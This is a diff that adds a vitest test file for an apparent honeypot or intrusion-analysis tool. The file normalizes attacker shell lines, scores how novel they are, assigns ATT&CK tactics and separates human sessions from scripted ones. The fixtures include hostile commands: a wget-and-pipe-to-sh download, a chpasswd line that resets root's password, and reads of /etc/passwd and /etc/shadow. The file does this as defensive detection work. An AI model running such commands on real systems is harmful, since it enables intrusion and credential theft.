@@ -1,0 +1,108 @@
+import { describe, expect, it } from 'vitest';
+import { actorFeatures } from './actor-features.ts';
+import { loadCatalogue } from './attack/catalogue.ts';
+import { createBoundedCache } from './bounded-cache.ts';
+import { tacticOf } from './judge-session.ts';
+import { gatherShapes, knownShapesOf } from './known-shapes.ts';
+import { lineShape } from './line-shape.ts';
+import { readShell } from './shell/read-shell.ts';
+import { typedStatements } from './statement-texts.ts';
+
+const shapeOf = (line: string) => lineShape(readShell(line));
+
+describe('a shape leaves out what changes from one visitor to the next', () => {
+  it.each([
+    ['wget http://192.0.2.1/a.sh', 'wget http://198.51.100.7:8080/x86_64'],
+    ['echo "root:pXg7kQw2LmNb"|chpasswd|bash', 'echo "root:qvRt81ZzpLkJ"|chpasswd|bash'],
+    ['scp -t /tmp/Muw3fuvA', 'scp -t /tmp/CaW87HUGx'],
+    ['echo -e "abc\\nQwErTy12\\nQwErTy12"|passwd', 'echo -e "x1\\nZZtop99x\\nZZtop99x"|passwd'],
+    ['ping -c 3 192.0.2.1', 'ping -c 5 198.51.100.9'],
+  ])('%s is of the shape of %s', (one, other) => {
+    expect(shapeOf(one)).toBe(shapeOf(other));
+  });
+
+  it.each([
+    ['cat /etc/passwd', 'cat /etc/shadow'],
+    ['ls -la', 'ls -R'],
+    ['uname -a', 'uname -a | sh'],
+  ])('%s is not of the shape of %s', (one, other) => {
+    expect(shapeOf(one)).not.toBe(shapeOf(other));
+  });
+});
+
+describe('novelty', () => {
+  const known = knownShapesOf(gatherShapes([['uname', 'ls', 'wget URL']], 'v'));
+
+  it('is none for what was seen in this order, little for a new order, all for what was never seen', () => {
+    expect(known.novelty(['uname', 'ls', 'wget URL'])).toBe(0);
+    expect(known.novelty(['uname', 'wget URL'])).toBeCloseTo(0.2);
+    expect(known.novelty(['never', '__proto__'])).toBe(1);
+    expect(known.novelty([])).toBe(0);
+  });
+
+  it('counts the share of shapes that were never seen', () => {
+    expect(known.unknownShare(['uname', 'never', 'ls', 'nor this'])).toBe(0.5);
+  });
+});
+
+describe('who names the tactic of a statement', () => {
+  const rule = { tactic: 'Exfiltration', confidence: 0.8 };
+
+  it.each([
+    ['a sure model, in a session of known shapes', { tactic: 'Discovery', confidence: 0.9 }, rule, 0, 'Discovery'],
+    ['an unsure model, where a rule is surer', { tactic: 'Discovery', confidence: 0.4 }, rule, 0, 'Exfiltration'],
+    ['an unsure model, where no rule answers', { tactic: 'Discovery', confidence: 0.4 }, null, 1, 'Discovery'],
+    ['a rule, in a session of shapes never seen', { tactic: 'Discovery', confidence: 0.95 }, rule, 0.9, 'Exfiltration'],
+    [
+      'the model, for a payload that is fetched',
+      { tactic: 'Execution', confidence: 0.5 },
+      { ...rule, tactic: 'Command and Control' },
+      1,
+      'Execution',
+    ],
+    ['the model, where it is sure of Other', { tactic: 'Other', confidence: 0.7 }, rule, 1, 'Other'],
+  ])('%s', (_description, told, byRule, unknownShare, tactic) => {
+    expect(tacticOf(told, byRule, unknownShare)).toBe(tactic);
+  });
+});
+
+it('a line is told apart into its statements, each with the operator after it', () => {
+  expect(typedStatements('cd /tmp && wget http://192.0.2.1/a | sh; for i in 1 2; do id; done')).toEqual([
+    { text: 'cd /tmp', separator: '&&' },
+    { text: 'wget http://192.0.2.1/a', separator: '|' },
+    { text: 'sh', separator: ';' },
+  ]);
+  expect(typedStatements('')).toEqual([{ text: '', separator: ';' }]);
+});
+
+describe('the catalogue', () => {
+  const catalogue = loadCatalogue(new URL('../../../policy/attack/catalogue.json', import.meta.url).pathname);
+
+  it('knows names, tactics and the way to v19', () => {
+    expect(catalogue.techniqueName('T1110.001')).toBe('Password Guessing');
+    expect(catalogue.tacticsOf('T1562.001')).toContain('Defense Evasion');
+    expect(catalogue.toV19('T1562.004')).toMatch(/^T168/);
+    expect(catalogue.toV19('T1105')).toBe('T1105');
+    expect(catalogue.tacticsOf('__proto__')).toEqual([]);
+  });
+
+  it('says which file is missing', () => {
+    expect(() => loadCatalogue('absent.json')).toThrow(/ATT&CK catalogue at absent.json/);
+  });
+});
+
+it('a bounded cache forgets what was asked least recently', () => {
+  const cache = createBoundedCache<number>(2);
+  cache.set('a', 1);
+  cache.set('b', 2);
+  cache.get('a');
+  cache.set('c', 3);
+  expect([cache.get('a'), cache.get('b'), cache.get('c'), cache.size]).toEqual([1, undefined, 3, 2]);
+});
+
+it('mending the line before and looking around are what people do', () => {
+  const person = actorFeatures(['ls', 'cat /etc/pasword', 'cat /etc/password', 'cat /etc/passwd', 'clear']);
+  const script = actorFeatures(['cd /tmp; wget http://192.0.2.1/a; sh a', 'uname -a; id']);
+  expect([...person]).toContain('almost:many');
+  expect([...script]).toContain('almost:none');
+});
